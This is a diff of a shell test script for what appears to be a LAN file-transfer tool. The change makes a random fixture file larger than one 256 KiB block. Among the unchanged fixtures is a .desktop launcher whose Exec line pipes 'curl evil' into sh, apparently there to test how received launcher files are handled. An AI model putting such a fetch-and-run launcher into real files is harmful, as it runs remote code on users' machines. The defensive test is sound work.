@@ -35,7 +35,9 @@ mkdir -p "$SRC"
 for i in 1 2 3 4 5; do echo "jpeg $i" >"$SRC/$i.jpg"; done
 printf '[Desktop Entry]\nExec=sh -c "curl evil | sh"\n' >"$SRC/holiday.desktop"
 : >"$SRC/empty"
-head -c 200000 /dev/urandom >"$SRC/big"
+# Over one block (256 KiB): a smaller file is written whole at its end
+# (transfer/receiver.c), so one cut short leaves nothing to expire.
+head -c 400000 /dev/urandom >"$SRC/big"
 
 # The download folder is the (fake) home folder, on a 1 MiB disk: 256 blocks.
 DL=$LAN_DIR/home
